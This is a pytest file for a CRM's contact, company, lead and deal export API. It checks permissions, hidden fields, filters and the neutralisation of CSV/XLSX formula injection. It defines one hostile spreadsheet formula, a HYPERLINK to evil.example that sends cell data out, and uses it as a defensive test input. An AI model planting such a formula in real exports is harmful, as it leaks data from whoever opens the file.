"""GET /api/v1/{contacts,companies,leads,deals}/export: the list as CSV or XLSX, streamed."""

import csv
import io

import pytest
from openpyxl import load_workbook

from custos.accounts.models import Role
from custos.api.tests.helpers import entries, field_errors, problem
from custos.core.tenancy import tenant_scope
from custos.crm.services.deals import deal_create
from custos.crm.services.leads import lead_create
from custos.crm.services.people import company_create, contact_create
from custos.testing import api_client

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def records(cast):
    actor = cast.actor(cast.alice)
    with tenant_scope(cast.org_a):
        company = company_create(actor=actor, data={"name": "Lovelace Engines GmbH"})
        contact_create(actor=actor, data={"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"})
        contact_create(actor=actor, data={"first_name": HOSTILE, "last_name": "Byron", "health_notes": "Asthma"})
        lead_create(actor=actor, data={"first_name": "Ed", "last_name": "New"})
        lead_create(actor=actor, data={"first_name": "Quinn", "last_name": "Qualified", "status": "qualified"})
        deal_create(actor=actor, data={"name": "Engines", "company": str(company.pk), "amount": "1250.50"})


def _rows(response):
    assert response.status_code == 200, response
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_contacts_export_as_csv_searched_and_neutralised(cast, records):
    client = api_client(cast, cast.alice, "read")  # an export is a read: a read token may export
    rows = _rows(client.get("/api/v1/contacts/export"))
    assert rows[0][:3] == ["First name", "Last name", "Email"]
    assert sorted(row[0] for row in rows[1:]) == ["'" + HOSTILE, "Ada"]
    assert "Asthma" not in str(rows)
    assert [r[:2] for r in _rows(client.get("/api/v1/contacts/export", {"q": "lovelace"}))[1:]] == [["Ada", "Lovelace"]]
    assert [e.extra for e in entries(cast.org_a, "contact.export")] == [
        {"format": "csv", "count": 2},
        {"format": "csv", "count": 1},
    ]


def test_contacts_export_as_xlsx_with_text_cells(cast, records):
    response = api_client(cast, cast.alice, "read").get("/api/v1/contacts/export", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == HOSTILE]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_hidden_fields_are_not_exported(cast, records):
    with tenant_scope(cast.org_a):
        Role.objects.filter(key="admin").update(hidden_fields=["contact.email", "deal.amount"])
    client = api_client(cast, cast.alice, "read")
    contacts = _rows(client.get("/api/v1/contacts/export"))
    assert "Email" not in contacts[0] and "ada@example.org" not in str(contacts)
    deals = _rows(client.get("/api/v1/deals/export"))
    assert "Amount" not in deals[0] and "1250.50" not in str(deals)


def test_exporting_needs_the_export_right_and_a_known_format(cast, records):
    for path in ("/api/v1/contacts/export", "/api/v1/companies/export", "/api/v1/leads/export", "/api/v1/deals/export"):
        assert problem(api_client(cast, cast.bob, "read").get(path), 403), path
        assert problem(api_client(cast, cast.sam, "read").get(path), 403), path
    assert entries(cast.org_a, "contact.export") == []
    errors = field_errors(api_client(cast, cast.alice, "read").get("/api/v1/contacts/export", {"format": "pdf"}))
    assert errors == [{"field": "format", "message": "Choose csv or xlsx."}]


def test_companies_leads_and_deals_export_with_their_filters(cast, records):
    client = api_client(cast, cast.alice, "read")
    assert _rows(client.get("/api/v1/companies/export"))[1][0] == "Lovelace Engines GmbH"
    leads = _rows(client.get("/api/v1/leads/export", {"status": "qualified"}))
    assert [row[:2] for row in leads[1:]] == [["Quinn", "Qualified"]]
    assert field_errors(client.get("/api/v1/leads/export", {"status": "maybe"}))[0]["field"] == "status"
    deals = _rows(client.get("/api/v1/deals/export", {"status": "open"}))
    assert deals[1][deals[0].index("Amount")] == "1250.50"
    assert _rows(client.get("/api/v1/deals/export", {"status": "won"}))[1:] == []
    assert field_errors(client.get("/api/v1/deals/export", {"pipeline": "nope"}))[0]["field"] == "pipeline"


def test_the_export_routes_are_not_taken_for_record_ids(cast, records):
    client = api_client(cast, cast.alice, "read")
    for path in ("/api/v1/contacts/export", "/api/v1/companies/export", "/api/v1/leads/export", "/api/v1/deals/export"):
        assert client.get(path).status_code == 200, path
    assert api_client(cast, cast.mallory, "read").get("/api/v1/contacts/export").status_code == 200
    assert _rows(api_client(cast, cast.mallory, "read").get("/api/v1/contacts/export"))[1:] == []
